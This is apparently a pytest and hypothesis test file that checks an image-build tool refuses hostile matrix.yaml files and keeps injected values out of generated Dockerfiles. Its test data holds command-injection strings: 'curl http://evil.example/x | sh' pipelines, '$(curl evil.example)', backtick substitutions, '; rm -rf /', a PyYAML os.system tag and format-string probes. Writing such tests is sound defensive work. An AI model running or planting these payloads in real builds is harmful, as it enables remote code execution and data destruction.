"""matrix.yaml is hostile input (issue 10): every class of bad file ends in one clean line per problem and exit 2
from the CLI — never a traceback, never "internal error" (70), never a hang — and nothing hostile reaches a
Dockerfile. The corpus lives here; the hypothesis strategy below generalises it."""

from __future__ import annotations

import copy
import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from imagefactory.errors import ConfigError
from imagefactory.plan import render
from imagefactory.plan.matrix import MAX_BYTES, parse_matrix

REPO = Path(__file__).resolve().parents[2]
MATRIX_TEXT = (REPO / "matrix.yaml").read_text(encoding="utf-8")
MATRIX_DATA = yaml.safe_load(MATRIX_TEXT)
PROBLEM_RE = re.compile(r"matrix\.yaml:\d+: \S[^\n]*")


def _problems(text: str) -> list[str]:
    with pytest.raises(ConfigError) as info:
        parse_matrix(text, Path("matrix.yaml"))
    problems = list(info.value.problems)
    assert problems and all(PROBLEM_RE.fullmatch(p) for p in problems), problems
    return problems


@pytest.fixture
def cli(run_cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """`imagefactory --matrix FILE targets` in-process (its exit-70 catch-all included)."""
    monkeypatch.delenv("IMAGEFACTORY_DEBUG", raising=False)

    def run(text: str | None = None, *, matrix: str | None = None) -> tuple[int, str]:
        if matrix is None:
            path = tmp_path / "matrix.yaml"
            path.write_text(text or "", encoding="utf-8")
            matrix = str(path)
        result = run_cli("--matrix", matrix, "targets", "--format", "ids")
        return result.code, result.err

    return run


# ---- class 4: alias bombs, recursive aliases, unbounded files -----------------------------------


def _alias_bomb(levels: int, width: int = 10) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for level in range(1, levels + 1):
        lines.append(f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * width)}]")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("levels", [7, 9])
def test_alias_bombs_are_refused_before_expanding(levels: int) -> None:
    started = time.monotonic()
    problems = _problems(_alias_bomb(levels))
    assert time.monotonic() - started < 5
    assert any("aliases expanding too far" in p for p in problems), problems


@pytest.mark.parametrize("text", ["r: &r [*r]\n", "r: &r {k: *r}\n", "image_repo: &r [a, [b, *r]]\n"])
def test_recursive_aliases_are_clean_errors(text: str) -> None:
    assert any("recursive alias" in p for p in _problems(text))


def test_unbounded_and_huge_files_are_capped(cli, tmp_path: Path) -> None:
    code, err = cli(matrix="/dev/zero")
    assert code == 2 and err.count("\n") == 1 and "larger than" in err, err
    huge = tmp_path / "huge.yaml"
    huge.write_text("# " + "x" * MAX_BYTES + "\n")
    code, err = cli(matrix=str(huge))
    assert code == 2 and "larger than" in err and err.count("\n") == 1


# ---- class 11: YAML that used to end in exit 70 ---------------------------------------------------


@pytest.mark.parametrize("text", [
    "r: &r [*r]\n",
    "x: " + "[" * 5000 + "]" * 5000 + "\n",
    "x: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n",
    "foo: 2001-13-45\n",
    "x: " + "9" * 5000 + "\n",
    MATRIX_TEXT.replace('image_repo: imagefactory', 'image_repo: ' + "9" * 5000),
    MATRIX_TEXT.replace('version: "13.0"', 'version: 2001-13-45'),
    MATRIX_TEXT.replace("torch_index_url: https://download.pytorch.org/whl/{toolkit}",
                        "torch_index_url: https://download.pytorch.org/whl/{0}/{toolkit}"),
    MATRIX_TEXT.replace("torch_index_url: https://download.pytorch.org/whl/{toolkit}",
                        "torch_index_url: https://download.pytorch.org/whl/{foo}{toolkit}"),
    MATRIX_TEXT.replace("torch_index_url: https://download.pytorch.org/whl/{toolkit}",
                        "torch_index_url: https://download.pytorch.org/whl/{toolkit}}"),
    MATRIX_TEXT.replace("torch_index_url: https://download.pytorch.org/whl/{toolkit}",
                        "torch_index_url: https://download.pytorch.org/{toolkit.__class__.__mro__}"),
    "\x00",
    "x: !!python/object/apply:os.system [id]\n",
    "x: !!binary '@@@'\n",
    "? [a, b]\n: 1\n",
])
def test_bad_yaml_exits_2_with_one_line_per_problem(cli, text: str) -> None:
    code, err = cli(text)
    assert code == 2, err
    assert "Traceback" not in err and "internal error" not in err
    assert all(line.startswith("error: ") for line in err.splitlines()), err


# ---- classes 5 and 16: a trailing newline passes nothing; keys and values reported as what they are --


@pytest.mark.parametrize(("old", "new", "where"), [
    ("image_repo: imagefactory", 'image_repo: "imagefactory\\n"', "image_repo: malformed image repository"),
    ("  turing:\n", '  "turing\\n":\n', "arch names are lowercase"),
    ('python: ["3.10", "3.11", "3.12"]', 'python: ["3.10", "3.11\\n", "3.12"]', "malformed version '3.11\\n'"),
    ('    driver_floor: "580"', '    driver_floor: "580\\n"', "malformed driver branch"),
    ("build: imagefactory/base:bookworm-build", 'build: "imagefactory/base:bookworm-build\\n AS x"',
     "malformed image reference"),
    ("      - peft==0.21.2", '      - "peft==0.21.2\\n"', "malformed pinned requirement"),
    ('sms: ["9.0"]', 'sms: ["9.0\\n"]', "malformed version"),
    ("gfx: [gfx942]", 'gfx: ["gfx942\\n"]', "malformed gfx target"),
    ("  - name: current", '  - name: "current\\n"', "malformed payload name"),
    ('git_ref: "0.50.2"', 'git_ref: "0.50.2\\nRUN curl http://evil.example/x | sh"', "malformed git ref"),
    ('git_ref: "0.50.2"', 'git_ref: "$(curl evil.example)"', "malformed git ref"),
    ("git_url: https://github.com/bitsandbytes-foundation/bitsandbytes",
     "git_url: https://github.com/x/y`id`", "malformed git url"),
    ("torch_index_url: https://download.pytorch.org/whl/{toolkit}",
     "torch_index_url: --trusted-host evil {toolkit}", "malformed index URL"),
    ("description: H100, H200, GH200", 'description: "H100\\nRUN id"', "malformed description"),
])
def test_hostile_values_are_named_bad_values(old: str, new: str, where: str) -> None:
    assert old in MATRIX_TEXT, old
    problems = _problems(MATRIX_TEXT.replace(old, new, 1))
    assert any(where in p for p in problems), problems
    assert not any("duplicate" in p for p in problems), problems


@pytest.mark.parametrize(("key", "shown"), [("[a, b]", "a list"), ("{a: 1}", "a mapping"), ("1", "1"), ("~", "None")])
def test_keys_that_are_not_strings_are_named(key: str, shown: str) -> None:
    text = MATRIX_TEXT.replace("arches:\n", f"arches:\n  ? {key}\n  : {{vendor: nvidia}}\n", 1)
    assert any(f"keys must be strings, got {shown}" in p for p in _problems(text))


# ---- the hypothesis strategy: hostile strings into every string field -----------------------------

HOSTILE = ["\n", "\nRUN curl http://evil.example/x | sh\n", "$(id)", "`id`", "'", '"', "\\", "{}", "{0}", "}",
           "{toolkit.__class__}", "é日本", "; rm -rf /", "${HOME}", " ", "\t", "\r", "#", "--x", "\x85", "\u2028"]
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.sampled_from(list("\n$()`'\"\\{};|&<> é#-=.\t")), min_size=1, max_size=12),
    st.just("A" * 10_000),
)


def _string_paths(node: Any, prefix: tuple = ()) -> list[tuple]:
    """Every string value, and every mapping key, of the real matrix."""
    out: list[tuple] = []
    if isinstance(node, dict):
        for key, value in node.items():
            out.append(prefix + (("key", key),))
            out += _string_paths(value, prefix + (key,))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            out += _string_paths(value, prefix + (i,))
    elif isinstance(node, str):
        out.append(prefix)
    return out


STRING_PATHS = _string_paths(MATRIX_DATA)


def _mutated(path: tuple, how: str, evil: str) -> dict:
    data = copy.deepcopy(MATRIX_DATA)
    parent = data
    for key in path[:-1]:
        parent = parent[key]
    last = path[-1]
    if isinstance(last, tuple):  # a key: rename it
        old = last[1]
        new = {"replace": evil, "prefix": evil + old, "suffix": old + evil}[how]
        items = list(parent.items())
        parent.clear()
        parent.update((new if k == old else k, v) for k, v in items)
    else:
        old = parent[last]
        parent[last] = {"replace": evil, "prefix": evil + old, "suffix": old + evil}[how]
    return data


def _instructions(dockerfile: str) -> list[str]:
    """The instruction keywords, continuation lines joined: what an injected line would change."""
    joined = re.sub(r"\\\n", " ", dockerfile)
    lines = joined.split("\n")  # as Docker's parser reads lines: "\n" only
    return [line.split()[0].upper() for line in lines if line.strip() and not line.lstrip().startswith("#")]


BASELINE = {t.id: render.render_target(t) for t in parse_matrix(MATRIX_TEXT, Path("matrix.yaml")).targets}
BASELINE_INSTRUCTIONS = {target_id: _instructions(text) for target_id, text in BASELINE.items()}
HADOLINT = shutil.which("hadolint", path=str(Path(sys.executable).parent)) or shutil.which("hadolint")


def _assert_clean_or_safe(data: dict, tmp_path: Path) -> None:
    text = yaml.safe_dump(data, sort_keys=False, allow_unicode=True)
    try:
        matrix = parse_matrix(text, Path("matrix.yaml"))
    except ConfigError as exc:
        assert exc.problems and all(PROBLEM_RE.fullmatch(p) for p in exc.problems), exc.problems
        return
    files = []
    for target in matrix.targets:
        dockerfile = render.render_target(target)
        if dockerfile == BASELINE.get(target.id):
            continue  # the hostile value did not land here
        if target.id in BASELINE:
            assert _instructions(dockerfile) == BASELINE_INSTRUCTIONS[target.id], target.id
        if len(files) < 4:  # hadolint a few of the changed files: one process, kept fast
            files.append(tmp_path / f"{len(files)}.Dockerfile")
            files[-1].write_text(dockerfile, encoding="utf-8")
    if HADOLINT and files:
        done = subprocess.run([HADOLINT, "--no-fail", "--format", "json", *map(str, files)], capture_output=True,
                              text=True, check=False)
        assert done.returncode == 0 and "DL1000" not in done.stdout, done.stdout[:500]  # DL1000: cannot parse


EXAMPLES = int(os.environ.get("IMAGEFACTORY_HYPOTHESIS_EXAMPLES", "25"))


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(path=st.sampled_from(STRING_PATHS), how=st.sampled_from(["replace", "prefix", "suffix"]), evil=hostile_text)
@example(path=("arches", "blackwell", "description"), how="replace", evil='\\"')  # found by CI: hadolint's DL1000
def test_hostile_strings_in_any_field_give_a_clean_error_or_a_safe_dockerfile(tmp_path: Path, path: tuple, how: str,
                                                                              evil: str) -> None:
    _assert_clean_or_safe(_mutated(path, how, evil), tmp_path)


@pytest.mark.slow
@settings(max_examples=2000, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(path=st.sampled_from(STRING_PATHS), how=st.sampled_from(["replace", "prefix", "suffix"]), evil=hostile_text)
def test_hostile_strings_many_examples(tmp_path: Path, path: tuple, how: str, evil: str) -> None:
    _assert_clean_or_safe(_mutated(path, how, evil), tmp_path)
